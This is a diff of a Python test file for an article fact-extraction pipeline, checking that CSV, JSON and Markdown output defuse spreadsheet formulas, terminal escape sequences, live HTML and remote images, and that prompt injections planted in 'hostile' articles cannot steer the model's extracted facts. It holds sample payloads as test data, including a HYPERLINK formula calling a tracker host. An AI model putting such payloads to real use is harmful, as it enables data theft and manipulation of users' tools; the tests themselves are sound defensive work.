@@ -17,6 +17,7 @@ from collections.abc import Iterator
 from contextlib import contextmanager, redirect_stderr, redirect_stdout
 from dataclasses import dataclass
 from functools import cache
+from html import unescape
 from itertools import pairwise
 from pathlib import Path
 from typing import Any
@@ -40,10 +41,12 @@ from hostile_articles import (
     Hostile,
 )
 from later_replies import cited, counted, counted_in, is_second, numbers, outline, told, told_in
+from markdown_it import MarkdownIt
 from v1_replies import actor, incident, quantity, report
 
 from pipeline.article import Article, load_articles, sentences, text_hash
 from pipeline.cli import main
+from pipeline.cli.output import Format, print_rows
 from pipeline.errors import PromptError
 from pipeline.ground import GroundedText
 from pipeline.prompt import Message, Prompt, load_prompt, render, render_step, shipped_prompts, system_message
@@ -383,12 +386,9 @@ def counts(ran: Ran, prompt_id: str, article: Hostile) -> list[dict[str, Any]]:
 @asking
 @per_article
 def test_an_obeyed_injection_is_a_fact_with_the_injections_own_words(
-    article: Hostile, prompt_id: str, ran: Ran, request: pytest.FixtureRequest
+    article: Hostile, prompt_id: str, ran: Ran
 ) -> None:
     """Whoever reads the 500 can see where it stands; where no such words are, it is ungrounded and still there."""
-    if (article.name, prompt_id) == ("jinja", "incident/v2"):
-        reason = "of two 500 in the cited sentence the first, `= 500 %`, is no count, and the second is not tried"
-        request.applymarker(pytest.mark.xfail(strict=True, reason=reason))
     fact = counts(ran, prompt_id, article)[1]
     assert fact["low"] == INJECTED
     if article.found is None:
@@ -504,19 +504,7 @@ REPLIES = {
 }
 
 
-LONG_RANGE = "the digits of a range are read as an integer of any length, which Python refuses with a traceback"
-STOPPING = {
-    "a range with an end of five thousand digits": LONG_RANGE,
-}
-
-
-def _expected(why: str) -> list[pytest.MarkDecorator]:
-    return [pytest.mark.xfail(strict=True, reason=STOPPING[why])] if why in STOPPING else []
-
-
-@pytest.mark.parametrize(
-    "asked_for", [pytest.param(said, id=why, marks=_expected(why)) for why, said in REPLIES.items()]
-)
+@pytest.mark.parametrize("asked_for", [pytest.param(said, id=why) for why, said in REPLIES.items()])
 def test_no_reply_stops_a_run(asked_for: dict[str, Any], tmp_path: Path) -> None:
     """Whatever a model is talked into, its own text is extracted or has failed; the others are extracted."""
     one, other = ARTICLES[0], ARTICLES[1]
@@ -605,14 +593,57 @@ def test_no_article_breaks_a_markdown_table(words: tuple[str, ...], ran: Ran) ->
     assert len(lines) == 2 + (3 if words[0] == "compare" else stored)
 
 
+def test_markdown_shows_words_and_nothing_else(ran: Ran) -> None:
+    """A renderer finds text and our line breaks in the cells, and the text is the names as the articles write them."""
+    query = "SELECT value_text FROM current_facts WHERE kind = 'actor' ORDER BY fact_id"
+    html = rendered(ran.told("sql", query, "--format", "markdown").out)
+    assert {tag.lower() for tag in re.findall(r"</?(\w+)", html)} == {"table", "thead", "tbody", "tr", "th", "td", "br"}
+    cells = [unescape(cell.replace("<br>", "\n")) for cell in re.findall("<td>(.*?)</td>", html)]
+    names = [STEERING.sub("�", name) for article in ARTICLES for name in article.names]
+    assert sorted(cells) == sorted(names)
+
+
+MARKUP = [
+    *("![a](http://t.example/a.png)", "![a][b]", "![[a.png]]", "[[http://t.example/a.png]]", "[a](http://t.example)"),
+    *("[![a](b)](c)", "\\![a](b)", "\\\\[a](b)", "[a]{onclick=b}", "^[a note]", "[a][]", "[a](<b c>)", "a] (b) [c"),
+    *("<img src=x>", "<!-- a", "<http://t.example>", "&lt;b&gt;", "&#60;b>", "\\<b>", "\\&lt;", "R&D", "a & b; c"),
+    *(
+        "`a`",
+        "``a",
+        "a\\`b`",
+        "*a*",
+        "**a**",
+        "_a_",
+        "__a__",
+        "event_type",
+        "a__b__c",
+        "~~a~~",
+        "$a$",
+        "$$\\input{a}$$",
+    ),
+    *("a|b", "a\\|b", "a\\\\|b", "a\\", "\\", "| --- |", "# a", "- a", "> a", "***", "a <br> b", "{{ a }}", "[a] b"),
+]
+
+
+def test_no_markup_is_live_in_markdown(ran: Ran) -> None:
+    """Each cell is read back as it was, whatever is written in it, in a table of as many rows."""
+    values = ", ".join(f"('{words}', '{words}')" for words in MARKUP)
+    html = rendered(ran.told("sql", f"FROM (VALUES {values}) AS t (a, b)", "--format", "markdown").out)
+    rows = re.findall("<tr>\n<td>(.*)</td>\n<td>(.*)</td>\n</tr>", html)
+    assert [tuple(map(unescape, row)) for row in rows] == [(words, words) for words in MARKUP]
+    assert not [cell for row in rows for cell in row if "<" in cell]
+
+
+def rendered(table: str) -> str:
+    """A Markdown table as HTML, by a renderer that keeps HTML and knows strikethrough, as GitHub's does."""
+    return str(MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(table))
+
+
 def spreadsheet(words: str) -> list[list[str]]:
     return list(csv.reader(io.StringIO(words, newline="")))
 
 
-LIVE = pytest.mark.xfail(strict=True, reason="typer.echo drops the escape sequence that hid a = from the defusing")
-
-
-@pytest.mark.parametrize("terminal", [True, pytest.param(False, marks=LIVE)], ids=["terminal", "piped"])
+@pytest.mark.parametrize("terminal", [True, False], ids=["terminal", "piped"])
 @pytest.mark.parametrize("words", [("compare",), ("sql", SAID)], ids=["compare", "sql"])
 def test_no_cell_of_a_csv_is_a_formula(words: tuple[str, ...], terminal: bool, ran: Ran) -> None:
     """A cell that would begin with = + - @, tab or carriage return begins with an apostrophe, headers included."""
@@ -622,19 +653,50 @@ def test_no_cell_of_a_csv_is_a_formula(words: tuple[str, ...], terminal: bool, r
     assert any(cell.startswith("'=HYPERLINK(\"http://tracker.example/?x=") for cell in cells)
 
 
+FORMULAS = [
+    *("=1", "+1", "-1", "@a", "\t1", "\r1", "\n1", " =1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\x0b@a", "\x00=1"),
+    *("\uff1d1", "\uff0b1", "\uff0d1", "\uff20a", " \uff1d1", "\x1b[32m=1", "\x1b[0m \x1b[1m+1", "\x9b31m-1", "\x9b=1"),
+]
+NO_FORMULAS = [
+    "1=1",
+    "a",
+    "a\r=1",
+    "a\n=1",
+    "a\r\n=1",
+    "'=1",
+    "1-2",
+    "\x1b[32ma=1",
+    "\x1b[",
+    " a=1",
+    "",
+    "(=1)",
+    "\x1b[" * 20_000,
+]
+
+
+def test_a_formula_is_seen_behind_what_is_not_seen() -> None:
+    """Blanks, control characters and colours before it hide no formula; what only has one inside stays as it is."""
+    assert [words for words in FORMULAS if printed_csv(words) != [["a"], [f"'{words}"]]] == []
+    assert [words for words in NO_FORMULAS if printed_csv(words) != [["a"], [words]]] == []
+
+
+def printed_csv(cell: str) -> list[list[str]]:
+    out = _Stream(terminal=False)
+    with redirect_stdout(out):
+        print_rows(["a"], [[cell]], Format.csv)
+    return spreadsheet(out.words)
+
+
 def test_json_is_what_is_stored(ran: Ran) -> None:
-    """Programs get every character, written so that C0 controls cannot act."""
+    """Programs get every character, written so that no control can act."""
     printed = ran.told("sql", SAID, "--json").out
     stored = {(f["article_id"], f["value_text"]) for (p, _), facts in ran.facts.items() for f in facts if p == ASKED[0]}
     assert {(one["article_id"], one["value_text"]) for one in json.loads(printed)} == stored
-    assert re.findall("[\x00-\x09\x0b-\x1f]", printed) == []
+    assert STEERING.findall(printed) == []
     matrix = json.loads(ran.told("compare", "--json").out)
     assert {one["article_id"] for one in matrix} == {one.name for one in [*LOADED, *ROWS]}
 
 
-@pytest.mark.xfail(
-    strict=True, reason="typer.echo takes escape sequences out of piped CSV, so that a file lacks what the article has"
-)
 def test_csv_is_what_is_stored(ran: Ran) -> None:
     """But for the apostrophe before a formula, a file has every character that the article has."""
     query = "SELECT value_text FROM current_facts WHERE kind = 'actor' ORDER BY fact_id"
@@ -643,28 +705,24 @@ def test_csv_is_what_is_stored(ran: Ran) -> None:
     assert sorted(cell if cell in names else cell.removeprefix("'") for cell in printed) == sorted(names)
 
 
-@pytest.mark.xfail(strict=True, reason="CSV goes to a terminal with escape sequences in it")
 @pytest.mark.parametrize("words", [("compare", "--format", "csv"), ("sql", SAID, "--format", "csv")])
 def test_csv_on_a_terminal_steers_nothing(words: tuple[str, ...], ran: Ran) -> None:
     """A file gets every character; a terminal that shows the same CSV is not steered by it."""
     assert set(STEERING.findall(ran.told(*words, terminal=True).out)) == set()
 
 
-@pytest.mark.xfail(strict=True, reason="JSON leaves C1 controls and changes of direction raw")
 @pytest.mark.parametrize("words", [("compare", "--json"), ("sql", SAID, "--json")])
 def test_json_on_a_terminal_steers_nothing(words: tuple[str, ...], ran: Ran) -> None:
     """JSON can escape everything without loss, so C1 controls and changes of direction need not come out raw."""
     assert set(STEERING.findall(ran.told(*words, terminal=True).out)) == set()
 
 
-@pytest.mark.xfail(strict=True, reason="Markdown cells keep pictures and HTML tags live")
 def test_markdown_shows_pictures_and_tags_as_words(ran: Ran) -> None:
     """Whoever opens the table fetches no picture from a stranger's server and runs no tag."""
     out = ran.told("compare", "--format", "markdown").out.replace("<br>", "")
     assert re.findall(r"(?<!\\)!\[|(?<!\\)<(?:img|script|b|details)\b", out) == []
 
 
-@pytest.mark.xfail(strict=True, reason="a line break in a declared id begins a line of its own on stderr")
 def test_an_id_forges_no_line_of_progress(ran: Ran) -> None:
     """A line that begins with a count is ours."""
     lines = ran.done["incident/v1"].err.splitlines()
@@ -672,7 +730,6 @@ def test_an_id_forges_no_line_of_progress(ran: Ran) -> None:
     assert [line for line in lines if line.startswith("[99/99]")] == []
 
 
-@pytest.mark.xfail(strict=True, reason="rebuild prints article ids raw")
 def test_what_a_rebuild_prints_steers_nothing(ran: Ran, tmp_path: Path) -> None:
     """Its changes name articles and their words."""
     copied = tmp_path / "copied.duckdb"
@@ -748,10 +805,9 @@ def test_grounding_ends(article: Hostile) -> None:
         look_up(article)
 
 
-@pytest.mark.xfail(strict=True, reason="the search for grouped numbers takes the square of a run of digits")
 def test_grounding_ends_on_a_run_of_digits() -> None:
     """A hundred thousand digits in a row, which no article needs and anybody can write."""
-    with not_hanging(3):
+    with not_hanging():
         look_up(DIGITS)
 
 
@@ -765,7 +821,6 @@ def test_splitting_ends(article: Hostile) -> None:
     assert all(one.end <= other.start for one, other in pairwise(found))
 
 
-@pytest.mark.xfail(strict=True, reason="each piece that goes on is joined and searched from its first character again")
 @pytest.mark.parametrize("article", [INITIALS, CLOCKS], ids=str)
 def test_splitting_ends_where_full_stops_end_no_sentence(article: Hostile) -> None:
     """Thousands of initials, or times of day, in one line."""
